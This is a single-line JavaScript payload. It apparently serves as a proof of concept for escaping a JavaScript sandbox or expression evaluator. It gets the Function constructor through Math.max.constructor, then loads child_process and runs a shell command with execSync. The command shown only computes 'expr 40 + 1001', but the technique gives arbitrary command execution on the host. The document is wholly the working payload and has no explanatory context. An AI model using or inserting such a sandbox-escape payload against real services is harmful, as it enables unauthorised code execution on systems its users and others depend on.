const {constructor:F}=Math.max; F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
